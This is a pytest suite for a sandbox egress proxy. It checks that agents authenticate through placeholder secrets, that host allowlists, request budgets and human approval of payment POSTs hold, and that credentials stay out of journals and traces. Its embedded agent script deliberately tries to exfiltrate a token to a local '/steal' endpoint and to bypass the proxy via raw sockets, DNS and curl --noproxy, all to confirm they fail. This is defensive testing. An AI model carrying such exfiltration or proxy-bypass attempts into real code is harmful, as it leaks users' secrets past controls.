"""The egress door under bubblewrap: real curl, urllib and Node fetch authenticate with
secrets they never hold; exfiltration, hosts not allowed and bypasses fail and are journaled.

Local HTTPS servers with a test CA of their own stand in for the outside world: ``good``
(the secret is bound to it), ``other`` (allowed, not bound) and ``banned`` (not allowed).
"""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
import textwrap
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from toolbridge import Bridge, Egress, EgressRule, Secret
from toolbridge._journal.sqlite import SQLiteJournal
from toolbridge._records import StepRecord
from toolbridge._sandbox.bwrap.launcher import BwrapLauncher

from ..security.conftest import _REASON as BWRAP_MISSING
from ..security.conftest import TEST_LIMITS
from .remote import Remote, WorldCA, remotes

CREDENTIAL = "sk-live-the-real-credential-0123456789"
TOKEN_SHAPE = "tbsecret_"  # how a placeholder starts: none reaches the bound host

AGENT = """
import errno, json, os, socket, subprocess, sys, urllib.error, urllib.request
good, other, banned = sys.argv[1:4]
token = os.environ["API_TOKEN"]
out = {"placeholder": token.startswith("tbsecret_")}

def get(url, headers=None, data=None):
    request = urllib.request.Request(url, headers=headers or {}, data=data)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return [answer.status, json.loads(answer.read())]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode()]
    except urllib.error.URLError as error:
        return ["error", str(error.reason)]

def attempt(action):
    try:
        action()
        return "ok"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc))

out["urllib_bearer"] = get(f"https://localhost:{good}/v1/me", {"Authorization": f"Bearer {token}"})
out["urllib_custom"] = get(f"https://localhost:{good}/v1/key", {"X-Api-Key": token}, data=b"{}")
curl = subprocess.run(["curl", "-sS", "-u", f"me:{token}", f"https://localhost:{good}/basic"],
                      capture_output=True, text=True)
out["curl_basic"] = [curl.returncode, curl.stdout, curl.stderr]
out["exfiltrate_header"] = get(f"https://127.0.0.1:{other}/steal", {"Authorization": f"Bearer {token}"})
out["exfiltrate_body"] = get(f"https://127.0.0.1:{other}/steal", data=token.encode())
out["exfiltrate_url"] = get(f"https://127.0.0.1:{other}/steal?t={token}")
out["other_clean"] = get(f"https://127.0.0.1:{other}/fine")
out["not_allowed"] = get(f"https://127.0.0.1:{banned}/")
out["raw_socket"] = attempt(lambda: socket.create_connection(("127.0.0.1", int(good)), timeout=5).close())
out["dns"] = attempt(lambda: socket.getaddrinfo("example.com", 443))
direct = subprocess.run(["curl", "-sS", "--noproxy", "*", f"https://localhost:{good}/"],
                        capture_output=True, text=True)
out["curl_direct"] = direct.returncode
print(json.dumps(out))
"""

NODE_AGENT = """
const [good] = process.argv.slice(2);
(async () => {
  const answer = await fetch(`https://localhost:${good}/node`, {
    headers: { Authorization: `Bearer ${process.env.API_TOKEN}` },
  });
  console.log(JSON.stringify({ status: answer.status, body: await answer.json() }));
})();
"""


@pytest.fixture
async def sandboxed(journal_path: Path) -> AsyncIterator[Bridge]:
    if BWRAP_MISSING is not None:
        pytest.skip(BWRAP_MISSING)
    async with Bridge(journal=journal_path, sandbox=BwrapLauncher(limits=TEST_LIMITS)) as opened:
        yield opened


@pytest.fixture
def work_dir(tmp_path: Path) -> Path:
    path = tmp_path / "work"
    path.mkdir(mode=0o755)
    path.chmod(0o755)
    return path


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[tuple[WorldCA, list[Remote]]]:
    ca = WorldCA(tmp_path)
    async with remotes(ca, CREDENTIAL, 3) as servers:
        yield ca, servers


async def steps_of(journal_path: Path, run_id: str) -> list[StepRecord]:
    journal = SQLiteJournal(journal_path)
    await journal.open()
    try:
        return await journal.load_steps(run_id)
    finally:
        await journal.close()


def egress_for(ca: WorldCA, good: Remote, other: Remote, **options: Any) -> Egress:
    return Egress(
        allow=[f"localhost:{good.port}", EgressRule(f"127.0.0.1:{other.port}")],
        secrets=[Secret("API_TOKEN", CREDENTIAL, hosts=[f"localhost:{good.port}"])],
        upstream_ca=ca.path,
        **options,
    )


async def test_clients_authenticate_through_placeholders_and_leaks_are_refused(
    sandboxed: Bridge, work_dir: Path, world: tuple[WorldCA, list[Remote]], journal_path: Path
) -> None:
    ca, (good, other, banned) = world
    (work_dir / "agent.py").write_text(textwrap.dedent(AGENT))
    async with sandboxed.run("egress") as step:
        result = await step.sandbox.commands.run(
            "agent",
            ["python3", "agent.py", str(good.port), str(other.port), str(banned.port)],
            cwd=work_dir,
            egress=egress_for(ca, good, other),
            timeout=90,
        )
    assert result.exit_code == 0, result.stderr
    assert CREDENTIAL not in result.stdout + result.stderr
    out = json.loads(result.stdout)
    assert out["placeholder"] is True
    assert out["urllib_bearer"][0] == 200
    assert out["urllib_bearer"][1]["bearer_ok"] is True
    assert out["urllib_custom"][1]["custom_ok"] is True
    assert out["curl_basic"][0] == 0, out["curl_basic"]
    assert json.loads(out["curl_basic"][1])["basic_ok"] is True
    # The placeholder going to a host it is not bound to: refused, with a clear body.
    assert out["exfiltrate_header"][0] == 403
    assert "placeholder of secret API_TOKEN" in out["exfiltrate_header"][1]
    assert out["exfiltrate_body"][0] == 403
    assert out["exfiltrate_url"][0] == 403
    assert out["other_clean"][0] == 200  # the same host without a placeholder is fine
    # A host not allowed: the tunnel itself is refused.
    assert out["not_allowed"][0] == "error" or out["not_allowed"][0] == 403
    # Around the door: no interface, no DNS, no route.
    assert out["raw_socket"] == "ECONNREFUSED"
    assert out["dns"] != "ok"
    assert out["curl_direct"] != 0
    # What reached the world: the real credential at the bound host only.
    assert [seen.path for seen in good.seen] == ["/v1/me", "/v1/key", "/basic"]
    assert all(TOKEN_SHAPE not in json.dumps(seen.headers) for seen in good.seen)
    assert [seen.path for seen in other.seen] == ["/fine"]
    assert banned.seen == []
    # Every request a step; refusals journaled; the value nowhere in the journal.
    egress = [s for s in await steps_of(journal_path, "egress") if s.kind == "egress"]
    by_status = sorted(
        (json.loads(s.input_json or "{}")["method"], s.status, (s.error or {}).get("status")) for s in egress
    )
    assert by_status.count(("GET", "completed", None)) == 3
    assert ("POST", "completed", None) in by_status
    assert ("CONNECT", "failed", 403) in by_status
    assert by_status.count(("GET", "failed", 403)) + by_status.count(("POST", "failed", 403)) == 3
    used = [json.loads(s.output_json or "{}").get("secrets") for s in egress if s.status == "completed"]
    assert used.count(["API_TOKEN"]) == 3
    assert CREDENTIAL.encode() not in journal_path.read_bytes()
    # The trace shows every passage, and no value.
    process = await asyncio.create_subprocess_exec(
        str(Path(sys.executable).with_name("toolbridge")),
        *("trace", "egress", "--journal", str(journal_path)),
        stdout=asyncio.subprocess.PIPE,
    )
    trace = (await asyncio.wait_for(process.communicate(), 60))[0].decode()
    assert trace.count("  egress  completed ") == 4
    assert trace.count("  egress  failed ") == 4
    assert f"CONNECT 127.0.0.1:{banned.port}" in trace
    assert CREDENTIAL not in trace


async def test_node_fetch_authenticates_through_the_door(
    sandboxed: Bridge, work_dir: Path, world: tuple[WorldCA, list[Remote]]
) -> None:
    if shutil.which("node") is None:
        pytest.skip("node is not installed")
    ca, (good, other, _) = world
    (work_dir / "agent.js").write_text(NODE_AGENT)
    async with sandboxed.run("node-egress") as step:
        result = await step.sandbox.commands.run(
            "agent",
            ["node", "agent.js", str(good.port)],
            cwd=work_dir,
            egress=egress_for(ca, good, other),
            timeout=60,
        )
    assert result.exit_code == 0, result.stderr
    out = json.loads(result.stdout)
    assert out["status"] == 200
    assert out["body"]["bearer_ok"] is True
    assert [seen.path for seen in good.seen] == ["/node"]


async def test_request_budget_and_methods(
    sandboxed: Bridge, work_dir: Path, world: tuple[WorldCA, list[Remote]]
) -> None:
    ca, (good, _, _) = world
    agent = textwrap.dedent(
        """
        import subprocess, sys
        url = sys.argv[1]
        for args in (["-X", "DELETE"], [], [], []):
            r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", *args, url],
                               capture_output=True, text=True)
            print(r.stdout)
        """
    )
    (work_dir / "agent.py").write_text(agent)
    egress = Egress(
        allow=[EgressRule(f"localhost:{good.port}", methods=["GET"])], upstream_ca=ca.path, max_requests=3
    )
    async with sandboxed.run("budget") as step:
        result = await step.sandbox.commands.run(
            "agent", ["python3", "agent.py", f"https://localhost:{good.port}/x"], cwd=work_dir, egress=egress
        )
    assert result.stdout.split() == ["403", "200", "200", "429"], result.stderr
    assert [seen.method for seen in good.seen] == ["GET", "GET"]


def test_policies_are_checked_when_declared() -> None:
    with pytest.raises(ValueError, match="not a host"):
        Egress(allow=["https://api.example.com"])
    with pytest.raises(ValueError, match=r"add 'api\.example\.com' to allow="):
        Egress(allow=["other.example.com"], secrets=[Secret("T", "v", hosts=["api.example.com"])])
    with pytest.raises(ValueError, match="hosts="):
        Secret("T", "v")
    assert "v4lue" not in repr(Secret("T", "v4lue", hosts=["a.example"]))


async def test_a_post_to_a_payments_host_waits_for_a_person(
    sandboxed: Bridge, work_dir: Path, world: tuple[WorldCA, list[Remote]]
) -> None:
    ca, (payments, _, _) = world
    agent = textwrap.dedent(
        """
        import subprocess, sys
        for args in ([], ["-X", "POST", "-d", "amount=5"]):
            r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", *args, sys.argv[1]],
                               capture_output=True, text=True)
            print(r.stdout)
        """
    )
    (work_dir / "agent.py").write_text(agent)
    rule = EgressRule(f"localhost:{payments.port}", requires_confirmation=["POST"])
    async with sandboxed.run("payments") as step:
        command = asyncio.ensure_future(
            step.sandbox.commands.run(
                "agent",
                ["python3", "agent.py", f"https://localhost:{payments.port}/charges"],
                cwd=work_dir,
                egress=Egress(allow=[rule], upstream_ca=ca.path),
            )
        )
        async with asyncio.timeout(60):
            while not (waiting := await sandboxed.approvals.list()):  # noqa: ASYNC110
                await asyncio.sleep(0.01)
        (request,) = waiting
        assert request.tool == "egress"
        assert request.arguments == {"method": "POST", "url": f"https://localhost:{payments.port}/charges"}
        assert [seen.method for seen in payments.seen] == ["GET"]  # the POST has not left
        await sandboxed.approvals.approve(request.id, by="alice", reason="expected charge")
        result = await command
    assert result.stdout.split() == ["200", "200"], result.stderr
    assert [seen.method for seen in payments.seen] == ["GET", "POST"]


async def test_snippets_take_egress(sandboxed: Bridge, world: tuple[WorldCA, list[Remote]]) -> None:
    ca, (good, other, _) = world
    code = textwrap.dedent(
        f"""
        import os, json, urllib.request
        request = urllib.request.Request("https://localhost:{good.port}/snippet",
                                         headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}})
        with urllib.request.urlopen(request, timeout=30) as answer:
            return json.loads(answer.read())["bearer_ok"]
        """
    )
    async with sandboxed.run("snippet-egress") as step:
        assert await step.sandbox.python("py", code, output=bool, egress=egress_for(ca, good, other)) is True
        if shutil.which("node") is not None:
            js = f"""
            const answer = await fetch("https://localhost:{good.port}/ts", {{
              headers: {{ Authorization: `Bearer ${{process.env.API_TOKEN}}` }},
            }});
            return (await answer.json()).bearer_ok;
            """
            assert (
                await step.sandbox.typescript("ts", js, output=bool, egress=egress_for(ca, good, other))
                is True
            )
    expected = ["/snippet", "/ts"] if shutil.which("node") is not None else ["/snippet"]
    assert [seen.path for seen in good.seen] == expected


async def test_plain_http_and_a_large_body(sandboxed: Bridge, work_dir: Path, tmp_path: Path) -> None:
    ca = WorldCA(tmp_path)
    agent = textwrap.dedent(
        """
        import json, os, subprocess, sys
        url = sys.argv[1]
        with open("/tmp/body", "wb") as handle:
            handle.write(b"x" * 3_000_000)
        done = subprocess.run(["curl", "-sS", "-H", "Authorization: Bearer " + os.environ["API_TOKEN"],
                               "--data-binary", "@/tmp/body", url], capture_output=True, text=True)
        print(done.stdout or done.stderr)
        """
    )
    (work_dir / "agent.py").write_text(agent)
    async with remotes(ca, CREDENTIAL, 1, tls=False) as (server,):
        host = f"localhost:{server.port}"
        egress = Egress(allow=[host], secrets=[Secret("API_TOKEN", CREDENTIAL, hosts=[host])])
        async with sandboxed.run("plain") as step:
            result = await step.sandbox.commands.run(
                "agent",
                ["python3", "agent.py", f"http://{host}/upload"],
                cwd=work_dir,
                egress=egress,
                timeout=60,
            )
    answer = json.loads(result.stdout)
    assert answer["bearer_ok"] is True
    assert answer["body_bytes"] == 3_000_000
    assert [seen.method for seen in server.seen] == ["POST"]


@pytest.fixture(scope="module")
def spans() -> Iterator[InMemorySpanExporter]:
    """Finished spans, from an SDK set up as an application would (or as another test did:
    the provider is process-wide, so this exporter is added to whichever is there)."""
    exporter = InMemorySpanExporter()
    provider = trace.get_tracer_provider()
    if not isinstance(provider, TracerProvider):
        provider = TracerProvider()
        trace.set_tracer_provider(provider)
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    yield exporter
    exporter.clear()


async def test_each_request_is_a_span_without_the_value(
    sandboxed: Bridge, work_dir: Path, world: tuple[WorldCA, list[Remote]], spans: InMemorySpanExporter
) -> None:
    ca, (good, other, _) = world
    agent = textwrap.dedent(
        """
        import os, subprocess, sys
        token = os.environ["API_TOKEN"]
        for url in sys.argv[1:]:
            subprocess.run(["curl", "-s", "-o", "/dev/null", "-H", "Authorization: Bearer " + token, url])
        """
    )
    (work_dir / "agent.py").write_text(agent)
    urls = [f"https://localhost:{good.port}/a?q=1", f"https://127.0.0.1:{other.port}/b"]
    async with sandboxed.run("spans") as step:
        await step.sandbox.commands.run(
            "agent", ["python3", "agent.py", *urls], cwd=work_dir, egress=egress_for(ca, good, other)
        )
    finished = {span.name: span for span in spans.get_finished_spans()}
    sent = finished[f"GET localhost:{good.port}"]
    assert sent.kind is trace.SpanKind.CLIENT
    assert dict(sent.attributes or {})["http.response.status_code"] == 200
    assert dict(sent.attributes or {})["toolbridge.egress.secrets"] == ("API_TOKEN",)
    assert dict(sent.attributes or {})["url.path"] == "/a"
    assert sent.parent is not None
    assert sent.parent.span_id == finished["toolbridge.command agent"].context.span_id
    refused = finished[f"GET 127.0.0.1:{other.port}"]
    assert dict(refused.attributes or {})["http.response.status_code"] == 403
    assert refused.status.status_code is trace.StatusCode.ERROR
    everything = json.dumps([dict(span.attributes or {}) for span in spans.get_finished_spans()], default=str)
    assert CREDENTIAL not in everything


async def test_an_sdk_reading_its_key_from_the_environment(
    sandboxed: Bridge, work_dir: Path, world: tuple[WorldCA, list[Remote]]
) -> None:
    """``requests`` (an SDK's usual transport) in the sandbox: proxy, CA and key from the
    environment, nothing configured in the code."""
    ca, (good, other, _) = world
    packages = work_dir / "site"
    names = ("requests", "urllib3", "idna", "certifi", "charset_normalizer")
    for module in [pytest.importorskip(name) for name in names]:  # requests' own, as installed
        source = Path(module.__file__ or "").parent
        shutil.copytree(source, packages / source.name, ignore=shutil.ignore_patterns("__pycache__"))
    agent = textwrap.dedent(
        """
        import os, sys
        sys.path.insert(0, "site")
        import requests
        answer = requests.get(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
        print(answer.status_code, answer.json()["bearer_ok"])
        """
    )
    (work_dir / "agent.py").write_text(agent)
    async with sandboxed.run("sdk") as step:
        result = await step.sandbox.commands.run(
            "agent",
            ["python3", "agent.py", f"https://localhost:{good.port}/sdk"],
            cwd=work_dir,
            egress=egress_for(ca, good, other),
            timeout=60,
        )
    assert result.stdout.split() == ["200", "True"], result.stderr
